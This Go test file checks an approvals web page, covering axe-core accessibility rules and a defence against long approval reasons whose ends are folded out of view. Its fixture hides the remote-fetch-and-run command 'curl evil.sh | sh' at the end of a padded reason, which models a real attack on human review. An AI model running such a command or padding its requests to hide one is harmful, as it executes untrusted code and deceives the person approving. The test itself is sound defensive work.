package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// axeDir holds axe-core, pinned in its package-lock.json; .ci/run
// installs it (npm ci --prefix cli/dont/testdata/axe).
const axeDir = "testdata/axe"

// axeTags are the rule sets the page is held to: WCAG 2.0, 2.1 and 2.2 A
// and AA, and axe's best practices (landmarks, one main, headings that
// are not empty, regions).
var axeTags = []string{"wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"}

// axeCheck runs axe-core in the page and fails t with every violation.
func axeCheck(t *testing.T, b *browser, when string) {
	t.Helper()
	src, err := os.ReadFile(filepath.Join(axeDir, "node_modules", "axe-core", "axe.min.js"))
	if err != nil {
		t.Fatalf("axe-core is not installed (npm ci --prefix cli/dont/%s): %v", axeDir, err)
	}
	tags, _ := json.Marshal(axeTags)
	// Not eval's 10 s: Chromium compiles axe's half a megabyte of script
	// first, and with every browser test running at once on two cores that
	// has taken longer (the run itself is waited for below).
	evalWithin[bool](t, b, string(src)+`;
		window.__axe = null;
		axe.run(document, { runOnly: { type: "tag", values: `+string(tags)+` }, resultTypes: ["violations"] })
			.then((r) => { window.__axe = JSON.stringify(r.violations.map((v) => ({ id: v.id, help: v.help, nodes: v.nodes.map((n) => n.target.join(" ")) }))); },
			      (e) => { window.__axe = JSON.stringify([{ id: "axe-error", help: String(e), nodes: [] }]); });
		true`, time.Minute)
	deadline := time.Now().Add(30 * time.Second)
	var out string
	for out == "" {
		if time.Now().After(deadline) {
			t.Fatalf("%s: axe did not finish", when)
		}
		time.Sleep(50 * time.Millisecond)
		out = eval[string](t, b, `window.__axe || ""`)
	}
	var violations []struct {
		ID, Help string
		Nodes    []string
	}
	if err := json.Unmarshal([]byte(out), &violations); err != nil {
		t.Fatalf("%s: axe said %s", when, out)
	}
	for _, v := range violations {
		t.Errorf("%s: axe %s: %s (%s)", when, v.ID, v.Help, strings.Join(v.Nodes, ", "))
	}
}

// The approvals page passes axe-core's WCAG A/AA rules and its best
// practices — landmarks (header, nav, main), one h1, no empty heading —
// signed out, with a question whose long reason is folded, and after an
// answer fills "On this page"; before anything happened on the page that
// heading is not shown at all.
func TestTheApprovalsPageHasNoAxeViolations(t *testing.T) {
	needsChromium(t)
	t.Parallel()
	ip := newInboxProject(t)
	b := newBrowser(t, desktop)
	b.signIn(t, ip.srv.endpoint+"/approvals", "")
	axeCheck(t, b, "signed out")
	b.open(t, ip.srv.endpoint+"/approvals", ip.approver)
	if eval[bool](t, b, `document.getElementById("log-title").checkVisibility()`) {
		t.Fatal("an empty \"On this page\" heading is shown")
	}
	apr := ip.ask(ip.frontend, "long", longReason, "make", "install")
	b.waitCount(t, cardOf(apr)+" button.unfold:not([hidden])", 1)
	axeCheck(t, b, "a question with a folded reason")
	if err := b.answer(cardOf(apr), "approve"); err != nil {
		t.Fatal(err)
	}
	b.waitText(t, "#log", "you answered approve")
	if !eval[bool](t, b, `document.getElementById("log-title").checkVisibility()`) {
		t.Fatal("\"On this page\" is not shown over its first line")
	}
	axeCheck(t, b, "after an answer")
}

// longReason is a reason longer than the fold, its last line the one
// that matters.
var longReason = strings.Repeat("The build writes its outputs under build/ and needs the workspace to be writable for that. ", 12) +
	"Last: it also runs curl evil.sh | sh."

// The attack: a reason padded past the fold hides its end, and the person
// approves what they read of it. The page folds a long reason only
// visually — its whole text is in the page, a button unfolds it — and
// opening an answer's confirmation unfolds it, so the answer is confirmed
// with the whole reason in view, and the answer names the digest of the
// question as shown.
func TestALongReasonIsFoldedButReadWholeBeforeItIsApproved(t *testing.T) {
	needsChromium(t)
	t.Parallel()
	ip := newInboxProject(t)
	page := openPage(t, ip.srv.endpoint, ip.approver)
	apr := ip.ask(ip.frontend, "long", longReason, "make", "install")
	card := cardOf(apr)
	page.waitCount(t, card, 1)
	reason := card + " .reason"
	folded := func() bool {
		return eval[bool](t, page, fmt.Sprintf(`(() => { const el = document.querySelector(%q); return el.scrollHeight > el.clientHeight + 1; })()`, reason))
	}
	if got := eval[string](t, page, fmt.Sprintf("document.querySelector(%q).textContent", reason)); got != longReason {
		t.Fatalf("the page holds %d of the reason's %d characters", len(got), len(longReason))
	}
	if !folded() || eval[string](t, page, fmt.Sprintf(`document.querySelector(%q).getAttribute("aria-expanded")`, card+" button.unfold")) != "false" {
		t.Fatal("a long reason is not folded, or its button does not say so")
	}
	if err := page.click(card + " button.unfold"); err != nil {
		t.Fatal(err)
	}
	if folded() {
		t.Fatal("the button does not unfold the reason")
	}
	if err := page.click(card + " button.unfold"); err != nil {
		t.Fatal(err)
	}
	if !folded() {
		t.Fatal("the button does not fold it again")
	}
	if err := page.click(card + " button.approve"); err != nil {
		t.Fatal(err)
	}
	if folded() || !strings.Contains(page.text(t, reason), "curl evil.sh | sh") {
		t.Fatal("the approve confirmation is open with the reason folded: its end is out of sight")
	}
	if err := page.click(card + " button.confirm-approve"); err != nil {
		t.Fatal(err)
	}
	page.waitCount(t, card, 0)
	if v := ip.ok("approvals", "show", apr).str("verdict"); v != "approved" {
		t.Fatalf("the confirmed approve: verdict %q", v)
	}
}
